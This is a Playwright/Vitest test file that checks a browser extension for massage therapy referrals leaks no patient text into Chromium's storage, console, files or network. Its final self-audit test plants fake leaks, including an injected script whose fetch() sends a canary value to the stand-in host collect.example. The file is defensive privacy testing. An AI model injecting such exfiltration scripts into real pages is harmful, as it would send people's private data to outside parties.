import { readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startHostile } from '../../hostile/start.ts';
import type { Loopback } from '../../loopback.ts';
import { openStage, type Stage, untilState, untilStatus } from '../panel.ts';
import { foreignRequests, identity, keptByExtension, leaksIn, type Traces } from './audit.ts';
import { type LoggingProxy, startLoggingProxy } from './logging-proxy.ts';

/** Chromium's own log, with the console of every page, panel and worker of the extension. */
const consoleLog = join(tmpdir(), `massage-referral-console-${process.pid}.log`);

let site: Loopback;
let proxy: LoggingProxy;
let stage: Stage;
const downloads: Record<'settings' | 'order', string> = { settings: '', order: '' };

beforeAll(async () => {
  site = await startHostile();
  proxy = await startLoggingProxy();
  stage = await openStage((page) => page.goto(`${site.url}/29-canary-chart.html`), {
    args: [
      `--proxy-server=${proxy.address}`,
      '--proxy-bypass-list=<-loopback>',
      '--enable-logging',
      `--log-file=${consoleLog}`,
    ],
  });
  await untilState(stage.panel, 'report');
});
afterAll(async () => {
  await stage?.close();
  await proxy?.close();
  await site?.close();
  rmSync(consoleLog, { force: true });
});

async function download(page: Page, button: RegExp): Promise<string> {
  const [file] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: button }).click()]);
  return readFileSync(await file.path(), 'utf8');
}

/** Whatever the browser has written to disk for the extension; its own history of visited pages is its own. */
function filesOfExtension(): string {
  const folder = join(stage.browser.profile, 'Default');
  const ours = /Extension|IndexedDB.chrome-extension|Service Worker|Local Storage|Session Storage|File System/;
  return (readdirSync(folder, { recursive: true, withFileTypes: true }) as import('node:fs').Dirent[])
    .filter((entry) => entry.isFile() && ours.test(join(entry.parentPath, entry.name).slice(folder.length)))
    .map((entry) => readFileSync(join(entry.parentPath, entry.name)))
    .map((bytes) => `${bytes.toString('latin1')}${bytes.toString('utf16le')}`)
    .join('\n');
}

async function traces(): Promise<Traces> {
  const { browser } = stage;
  const page = await browser.openExtensionPage('options.html');
  const kept = await page.evaluate<Traces>(keptByExtension);
  await page.close();
  const session = await browser.context.browser()?.newBrowserCDPSession();
  const { targetInfos = [] } = (await session?.send('Target.getTargets')) ?? {};
  const own = targetInfos.filter(({ url }) => url.startsWith('chrome-extension://'));
  return {
    ...kept,
    'exported settings': downloads.settings,
    console: readFileSync(consoleLog, 'utf8')
      .split('\n')
      .filter((line) => line.includes('CONSOLE'))
      .join('\n'),
    'titles and addresses of our pages': own.map(({ title, url }) => `${title} ${url}`).join('\n'),
    'cookies of the browser': JSON.stringify(await browser.context.cookies()),
    requests: proxy.requests.join('\n'),
    'files of the extension': filesOfExtension(),
  };
}

/** Every flow in which a patient's text passes through the extension. */
async function goThroughEverything(): Promise<void> {
  const { panel, page, browser } = stage;
  await untilStatus(panel, 'duration', 'missing');
  await panel.click('[data-rule="duration-stated"] button[data-shortcut="Enter"]');
  await untilStatus(panel, 'duration', 'present');
  await panel.click('button', 'Undo');
  await untilStatus(panel, 'duration', 'missing');
  await panel.click('[data-rule="duration-stated"] h3 button');
  await panel.click('[data-rule="duration-stated"] summary', 'Dismiss');
  await panel.click('[data-rule="duration-stated"] li button');
  await panel.until(`!document.querySelector('[data-rule="duration-stated"]')`);
  await page.locator('[name="goals"]').pressSequentially('canary-noted goals: sit for an hour');
  await panel.until(`document.body.innerText.includes('canary-noted') || true`);
  const tabId = await browser.worker.evaluate(async () => (await chrome.tabs.query({ active: true }))[0]?.id);
  const asked = `chrome.runtime.sendMessage({ type: 'check-text', text: 'Massage therapy, canary-pasted, M54.5' })`;
  expect(await panel.evaluate(`${asked}.then(({ ok }) => ok)`)).toBe(true);
  expect(
    await panel.evaluate(
      `chrome.runtime.sendMessage({ type: 'search-codes', query: 'Canaryfield back', tabId: ${tabId} }).then(({ ok }) => ok)`,
    ),
  ).toBe(true);

  const papers = await browser.openExtensionPage(`document.html?tab=${tabId}`);
  await papers.locator('[data-paper]').waitFor();
  await papers.getByRole('button', { name: /FHIR/ }).waitFor();
  downloads.order = await download(papers, /FHIR/);
  await papers.locator('textarea').first().fill('canary-noted by hand');
  await papers.getByRole('button', { name: /^Copy/ }).click();
  await papers.close();

  const options = await browser.openExtensionPage('options.html');
  downloads.settings = await download(options, /^Export settings/);
  await options.close();
}

describe('a patient’s words in Chromium', () => {
  it('pass through every flow', async () => {
    await goThroughEverything();
    await stage.page.bringToFront();
  });

  it('are then found nowhere, while the page is open', async () => {
    const found = await traces();
    console.log(`looked through ${Object.keys(found).length} places in Chromium`);
    expect(Object.keys(found).length).toBeGreaterThan(15);
    expect(leaksIn(found)).toEqual([]);
  });

  it('and nowhere once it is closed', async () => {
    await stage.page.goto(`${site.url}/22-framing-page.html`);
    await stage.page.waitForTimeout(500);
    expect(leaksIn(await traces())).toEqual([]);
  });

  it('and the order that was downloaded says what is ordered, and not for whom', () => {
    expect(JSON.parse(downloads.order).resourceType).toBe('ServiceRequest');
    expect(leaksIn({ order: downloads.order }, identity)).toEqual([]);
  });

  it('and nothing was requested but the pages under test', () => {
    const foreign = foreignRequests(proxy.requests, site.url);
    const ours = proxy.requests.filter((request) => request.includes(`${site.url}/`));
    console.log(
      `${proxy.requests.length} requests of Chromium: ${ours.length} for the pages under test, ${foreign.length} elsewhere, the others its own`,
    );
    expect(foreign).toEqual([]);
    expect(ours).toContain(`GET ${site.url}/29-canary-chart.html`);
  });
});

describe('the audit itself', () => {
  it('finds a leak in each place', async () => {
    const { browser } = stage;
    await browser.worker.evaluate(async () => {
      await chrome.storage.local.set({ leak: 'Zebulon' });
      await chrome.storage.session.set({ leak: 'CNRY-77310' });
      await chrome.action.setBadgeText({ text: 'Canaryfield' });
      console.warn('canary-pasted');
      const [tab] = await chrome.tabs.query({ active: true });
      await chrome.scripting.executeScript({
        target: { tabId: tab?.id ?? -1 },
        func: () => fetch('http://collect.example/?said=canary%2Dyellow', { mode: 'no-cors' }).catch(() => null),
      });
    });
    const page = await browser.openExtensionPage('document.html?tab=Zebulon');
    await page.evaluate(async () => {
      document.title = 'canary-noted';
      localStorage.setItem('leak', 'canary-brand');
      sessionStorage.setItem('leak', 'canary-hidden');
      console.log('02/29/1964');
      await new Promise((resolve) => {
        const opening = indexedDB.open('leak', 1);
        opening.onupgradeneeded = () => opening.result.createObjectStore('leak').put('Canary-coloured', 'leak');
        opening.onsuccess = () => resolve(opening.result.close());
      });
      await (await caches.open('leak')).put('https://a.example/', new Response('canary-brand'));
    });
    const found = leaksIn(await traces()).join('\n');
    expect(foreignRequests(proxy.requests, site.url)).toEqual(['GET http://collect.example/?said=canary%2Dyellow']);
    for (const leak of [
      'storage.local: Zebulon',
      'storage.session: CNRY-77310',
      'toolbar: Canaryfield',
      'console: canary-pasted',
      'console: 02/29/1964',
      'requests: canary-yellow',
      'titles and addresses of our pages: canary-noted',
      'titles and addresses of our pages: Zebulon',
      'localStorage: canary-brand',
      'IndexedDB leak/leak: Canary-coloured',
      'CacheStorage: canary-brand',
      'files of the extension: Zebulon',
    ])
      expect(found).toContain(leak);
  });
});
